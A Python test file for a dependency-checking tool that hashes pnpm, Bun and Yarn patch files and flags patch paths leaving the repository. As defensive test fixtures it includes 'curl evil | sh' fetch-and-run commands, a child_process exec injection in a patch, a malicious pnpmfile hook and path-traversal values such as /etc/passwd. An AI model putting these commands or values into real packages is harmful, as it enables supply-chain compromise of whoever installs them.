"""Patched dependencies (pnpm's patchedDependencies in package.json and pnpm-workspace.yaml, Bun's, Yarn's patch:
protocol): the patched package carries its patch files' hashes, read through the snapshot, so that a changed patch
file is a hashes-changed change; patch files that cannot be read are problems (checker/manifests/npm_patches.py)."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from checker.diff.changes import diff_dependencies
from checker.errors import ManifestError, SnapshotError
from checker.manifests import format_for
from checker.manifests.npm_patches import yarn_patch
from checker.manifests.settings import repository_path
from checker.model import Manifest

FIXTURES = Path(__file__).parent / "fixtures"
PNPM = FIXTURES / "pnpm_workspace" / "pnpm-ffddb165"
PATCH = "diff --git a/index.js b/index.js\n--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-a\n+b\n"


def digest(text: str) -> str:
    return "patch-sha256:" + hashlib.sha256(text.encode("utf-8")).hexdigest()


def parse(path: str, text: str, files: dict[str, str]) -> Manifest:
    asked: list[str] = []

    def read(wanted: str) -> str | None:
        asked.append(wanted)
        return files.get(wanted)

    manifest = format_for(path).parse(text, path, read)
    assert set(asked) <= set(manifest.includes) | {p for p in asked if p not in files}
    return manifest


def patched(manifest: Manifest) -> list[tuple]:
    return [(d.name, d.version, d.specifier, sorted(d.hashes), d.direct, d.line)
            for d in manifest.dependencies if any(h.startswith("patch-") for h in d.hashes)
            or d.specifier.startswith("patch:")]


def pnpm_files(folder: Path) -> dict[str, str]:
    return {f"__patches__/{p.name}": p.read_text(encoding="utf-8") for p in (PNPM / "__patches__").iterdir()}


def test_pnpm_patches_moved_from_package_json_to_pnpm_workspace_yaml_keep_their_hashes() -> None:
    """pnpm/pnpm commit ffddb165 moved its settings from package.json's pnpm field to pnpm-workspace.yaml."""
    files = pnpm_files(PNPM)
    before = parse("package.json", (PNPM / "before" / "package.json").read_text(encoding="utf-8"), files)
    after = parse("pnpm-workspace.yaml", (PNPM / "after" / "pnpm-workspace.yaml").read_text(encoding="utf-8"), files)
    expected = [
        ("@yao-pkg/pkg", None, "*", [digest(files["__patches__/pkg.patch"])], False),
        ("graceful-fs", "4.2.11", "4.2.11", [digest(files["__patches__/graceful-fs@4.2.11.patch"])], False),
        ("mdast-util-to-string", "2.0.0", "2.0.0", [digest(files["__patches__/mdast-util-to-string@2.0.0.patch"])],
         False),
    ]
    assert [p[:5] for p in patched(before)] == expected
    assert [p[:5] for p in patched(after)] == expected
    assert [p[5] for p in patched(after)] == [278, 279, 280]
    patches = ("__patches__/pkg.patch", "__patches__/graceful-fs@4.2.11.patch",
               "__patches__/mdast-util-to-string@2.0.0.patch")
    assert before.includes == patches and after.includes == (".pnpmfile.mjs", ".pnpmfile.cjs") + patches
    assert before.problems == after.problems == ()
    assert format_for("package.json").scan_includes(
        (PNPM / "before" / "package.json").read_text(encoding="utf-8"), "package.json") == [
        (path, line) for path, line in zip(patches, [p[5] for p in patched(before)])]


def test_a_changed_patch_file_is_a_hashes_changed_change_of_its_package() -> None:
    """nodejs/corepack commit 720204e changed .yarn/patches/clipanion-*.patch and not package.json."""
    folder = FIXTURES / "package_json" / "corepack-720204e"
    text = (folder / "package.json").read_text(encoding="utf-8")
    patch_path = ".yarn/patches/clipanion-npm-3.2.1-fc9187f56c.patch"
    revisions = [parse("package.json", text, {patch_path: (folder / f"clipanion.{side}.patch").read_text("utf-8")})
                 for side in ("before", "after")]
    assert patched(revisions[0]) == [
        ("clipanion", "3.2.1", "patch:clipanion@npm%3A3.2.1#~/.yarn/patches/clipanion-npm-3.2.1-fc9187f56c.patch",
         [digest((folder / "clipanion.before.patch").read_text("utf-8"))], True, 29)]
    assert revisions[0].includes == (patch_path,)
    [change] = diff_dependencies(revisions[0].dependencies, revisions[1].dependencies)
    assert (change.kind, change.name, change.after.version) == ("hashes-changed", "clipanion", "3.2.1")


def test_bun_patched_dependencies_and_a_changed_patch() -> None:
    """mrousavy/react-native-vision-camera commit 31e2927d changed its Bun patch of react-native only."""
    folder = FIXTURES / "package_json" / "vision-camera"
    text = (folder / "package.json").read_text(encoding="utf-8")
    patch_path = "patches/react-native@0.85.3.patch"
    revisions = [parse("package.json", text, {patch_path: (folder / f"react-native.{side}.patch").read_text("utf-8")})
                 for side in ("before", "after")]
    assert [p[:3] for p in patched(revisions[1])] == [("react-native", "0.85.3", "0.85.3")]
    [change] = diff_dependencies(revisions[0].dependencies, revisions[1].dependencies)
    assert (change.kind, change.name) == ("hashes-changed", "react-native")


def test_missing_patch_files_are_problems() -> None:
    """vercel/next.js names six patch files; a snapshot without them cannot say what they change."""
    text = (FIXTURES / "package_json" / "nextjs" / "package.json").read_text(encoding="utf-8")
    found = parse("package.json", text, {})
    assert len(found.problems) == 6
    assert found.problems[0][:2] == (
        "\"pnpm.patchedDependencies\" 'webpack-sources@3.2.3': the patch file patches/webpack-sources@3.2.3.patch "
        "does not exist", 34)
    assert [(d.name, d.version, d.hashes) for d in found.dependencies if not d.direct and d.line == 36] == [
        ("@ampproject/toolbox-optimizer", "2.8.3", frozenset())]


def package_json(fields: dict, path: str = "package.json") -> str:
    return json.dumps({"name": "app", **fields}, indent=2)


@pytest.mark.parametrize(
    ("written", "declaring", "expected"),
    [
        ("patches/a.patch", "package.json", "patches/a.patch"),
        ("./patches/a.patch", "web/package.json", "web/patches/a.patch"),
        ("../patches/a.patch", "web/pnpm-workspace.yaml", "patches/a.patch"),
        ("patches\\a.patch", "package.json", "patches/a.patch"),
        ("../a.patch", "package.json", None),
        ("patches/../../a.patch", "package.json", None),
        ("/etc/passwd", "package.json", None),
        ("C:\\patches\\a.patch", "package.json", None),
        ("~/a.patch", "package.json", None),
        ("", "package.json", None),
    ],
)
def test_patch_paths_inside_and_outside_the_repository(written: str, declaring: str, expected: str | None) -> None:
    assert repository_path(declaring, written) == expected


@pytest.mark.parametrize("written", ["../outside.patch", "/tmp/evil.patch", "patches/../../outside.patch"])
def test_a_patch_file_outside_the_repository_is_a_problem_and_is_never_read(written: str) -> None:
    asked: list[str] = []
    text = package_json({"pnpm": {"patchedDependencies": {"lodash@4.17.21": written}}})
    found = format_for("package.json").parse(text, "package.json", lambda p: asked.append(p))
    assert asked == [] and found.includes == ()
    assert [p.message for p in found.problems] == [
        f"\"pnpm.patchedDependencies\" 'lodash@4.17.21': the patch file {written!r} is outside the repository, so "
        "lockgate cannot see what it changes"]


def test_a_patch_file_behind_a_symbolic_link_out_of_the_repository_is_a_problem() -> None:
    def read(path: str) -> str | None:
        raise SnapshotError(f"{path}: symbolic link points outside the repository (/etc/passwd)")

    text = package_json({"patchedDependencies": {"is-even@1.0.0": "patches/is-even.patch"}})
    found = format_for("package.json").parse(text, "package.json", read)
    assert [p.message for p in found.problems] == [
        "\"patchedDependencies\" 'is-even@1.0.0': the patch file patches/is-even.patch cannot be read "
        "(patches/is-even.patch: symbolic link points outside the repository (/etc/passwd))"]
    assert found.includes == ("patches/is-even.patch",)


def test_yarn_patch_ranges() -> None:
    assert yarn_patch("patch:lodash@npm%3A4.17.21#./patches/a.patch", "web/package.json") == (
        "4.17.21", [("web/patches/a.patch", "./patches/a.patch", False, None)])
    # several patches joined by &, flags before !, a builtin patch, parameters after ::
    inner, refs = yarn_patch("patch:typescript@npm%3A^5.0.0#optional!./a.patch&~/b.patch&optional!builtin<compat/typescript>"
                             "::version=5.0.0&hash=abc&locator=app%40workspace%3A.", "package.json")
    assert inner == "^5.0.0"
    assert refs == [("a.patch", "optional!./a.patch", True, None), ("b.patch", "~/b.patch", False, None),
                    (None, "optional!builtin<compat/typescript>", True, "compat/typescript")]
    # Yarn 2 and 3 marked an optional (builtin) patch with a leading ~, which is not Yarn 4's ~/ project root
    assert yarn_patch("patch:typescript@npm%3A^5.0.0#~builtin<compat/typescript>", "package.json")[1] == [
        (None, "~builtin<compat/typescript>", True, "compat/typescript")]
    # the selector is URL-decoded as Yarn decodes it: an encoded ".." still leaves the repository
    assert yarn_patch("patch:lodash@npm%3A4.17.21#%2E%2E/%2E%2E/evil.patch", "package.json") == (
        "4.17.21", [(None, "../../evil.patch", False, None)])
    assert yarn_patch("patch:lodash@npm%3Aother@1#./a.patch", "package.json")[0] == "npm:other@1"  # an alias stays one
    assert yarn_patch("npm:lodash@1", "package.json") is None and yarn_patch("patch:lodash", "package.json") is None


def test_yarn_patch_in_resolutions_builtin_and_optional_files() -> None:
    text = package_json({"resolutions": {
        "lodash@npm:4.17.21": "patch:lodash@npm%3A4.17.21#./.yarn/patches/lodash.patch",
        "typescript": "patch:typescript@npm%3A5.4.5#optional!builtin<compat/typescript>&optional!./ts.patch",
    }})
    found = parse("package.json", text, {".yarn/patches/lodash.patch": PATCH})
    assert [(d.name, d.version, sorted(d.hashes), d.direct) for d in found.dependencies] == [
        ("lodash", "4.17.21", [digest(PATCH)], False),
        ("typescript", "5.4.5", ["patch-builtin:compat/typescript"], False),
    ]
    assert found.problems == ()  # the optional patch may be missing: Yarn skips it too
    assert found.includes == (".yarn/patches/lodash.patch", "ts.patch")


def test_a_yarn_patch_that_escapes_the_repository_is_a_problem() -> None:
    text = package_json({"dependencies": {"lodash": "patch:lodash@npm%3A4.17.21#%2E%2E/evil.patch"}})
    found = parse("package.json", text, {})
    assert [p.message for p in found.problems] == [
        "'lodash': the patch file '../evil.patch' is outside the repository, so lockgate cannot see what it "
        "changes"]


def test_patch_keys_that_name_no_package_are_refused() -> None:
    text = package_json({"pnpm": {"patchedDependencies": {"../x@1.0.0": "patches/x.patch"}}})
    with pytest.raises(ManifestError) as caught:
        parse("package.json", text, {})
    assert caught.value.message == "\"pnpm.patchedDependencies\": '../x@1.0.0' does not name a package"
    with pytest.raises(ManifestError) as caught:
        parse("package.json", package_json({"patchedDependencies": {"x@1": 7}}), {})
    assert caught.value.message == "\"patchedDependencies\": 'x@1' must be a string, found number"


def test_a_new_patch_of_an_unchanged_package_is_a_change() -> None:
    base = parse("pnpm-workspace.yaml", "packages: ['a']\n", {})
    head = parse("pnpm-workspace.yaml", "packages: ['a']\npatchedDependencies:\n  express@4.18.1: p/e.patch\n",
                 {"p/e.patch": PATCH})
    [change] = diff_dependencies(base.dependencies, head.dependencies)
    assert (change.kind, change.name, change.after.version, sorted(change.after.hashes)) == (
        "added", "express", "4.18.1", [digest(PATCH)])


def test_scoped_patch_keys_and_patch_files_in_a_workspace_folder() -> None:
    text = "patchedDependencies:\n  '@types/node@20.17.6': patches/node.patch\n  '@scope/name': ../shared/x.patch\n"
    found = parse("web/pnpm-workspace.yaml", text, {"web/patches/node.patch": PATCH, "shared/x.patch": PATCH})
    assert [(d.name, d.version, d.specifier) for d in found.dependencies] == [
        ("@types/node", "20.17.6", "20.17.6"), ("@scope/name", None, "*")]
    pnpmfiles = ("web/.pnpmfile.mjs", "web/.pnpmfile.cjs")
    assert found.includes == pnpmfiles + ("web/patches/node.patch", "shared/x.patch")
    assert format_for("web/pnpm-workspace.yaml").scan_includes(text, "web/pnpm-workspace.yaml") == [
        (pnpmfiles[0], None), (pnpmfiles[1], None), ("web/patches/node.patch", 2), ("shared/x.patch", 3)]


def test_includes_cost_nothing_for_files_without_patches() -> None:
    assert format_for("package.json").scan_includes('{"dependencies": {"a": "1"}}', "package.json") == []
    assert format_for("package.json").scan_includes("{broken patch", "package.json") == []
    assert format_for("pnpm-workspace.yaml").scan_includes("patchedDependencies: [", "pnpm-workspace.yaml") == []
    # a pnpm-workspace.yaml always reads the default pnpmfiles, which a cheap scan names without loading the YAML
    assert format_for("a/pnpm-workspace.yaml").scan_includes("packages: [", "a/pnpm-workspace.yaml") == [
        ("a/.pnpmfile.mjs", None), ("a/.pnpmfile.cjs", None)]


def test_a_pull_request_that_changes_only_a_patch_file_shows_the_change(capsys, repo) -> None:
    from checker.cli import main

    files = {"package.json": package_json({"pnpm": {"patchedDependencies": {"express@4.18.1": "patches/e.patch"}}}),
             "patches/e.patch": PATCH}
    base = repo.commit("base", files)
    head = repo.commit("evil patch", {"patches/e.patch": PATCH + "+require('child_process').exec('curl evil|sh')\n"})
    code = main(["diff", "-C", str(repo.path), "--base", base, "--head", head, "--format", "json"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 0
    assert [(c["name"], c["kind"], c["manifest"]) for c in doc["changes"]] == [
        ("express", "hashes-changed", "package.json")]


def test_a_pull_request_that_edits_only_a_pnpmfile_or_a_script_needs_review(capsys, repo) -> None:
    from checker.cli import main

    hook = "module.exports = {hooks: {readPackage: (pkg) => pkg}}\n"
    base = repo.commit("base", {
        "pnpm-workspace.yaml": "packages: ['a']\n", ".pnpmfile.cjs": hook,
        "package.json": package_json({"scripts": {"postinstall": "npm run setup", "setup": "node setup.js"}}),
    })
    head = repo.commit("evil", {
        ".pnpmfile.cjs": hook.replace("(pkg) => pkg", "(pkg) => ({...pkg, dependencies: {evil: '1.0.0'}})"),
        "package.json": package_json({"scripts": {"postinstall": "npm run setup", "setup": "curl evil | sh"}}),
    })
    code = main(["check", "-C", str(repo.path), "--base", base, "--head", head, "--format", "json", "--offline"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 1 and doc["verdict"] == "block"
    assert [(c["ecosystem"], c["name"], c["kind"], c["manifest"], c["review"]) for c in doc["changes"]] == [
        ("config", "npm.scripts.setup", "source-changed", "package.json", "required"),
        ("config", "pnpm.pnpmfile", "hashes-changed", "pnpm-workspace.yaml", "required"),
    ]


def test_a_pull_request_that_points_a_patch_out_of_the_repository_is_blocked(capsys, repo) -> None:
    from checker.cli import main

    base = repo.commit("base", {"package.json": package_json({"dependencies": {"lodash": "4.17.21"}})})
    head = repo.commit("escape", {"package.json": package_json({
        "dependencies": {"lodash": "4.17.21"},
        "pnpm": {"patchedDependencies": {"lodash@4.17.21": "../../../etc/lodash.patch"}}})})
    code = main(["check", "-C", str(repo.path), "--base", base, "--head", head, "--format", "json", "--offline"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 1
    unreadable = [f for f in doc["findings"] if f["rule"] == "unreadable-manifest"]
    assert [(f["level"], f["manifest"]) for f in unreadable] == [("block", "package.json")]
    assert "outside the repository" in unreadable[0]["message"]
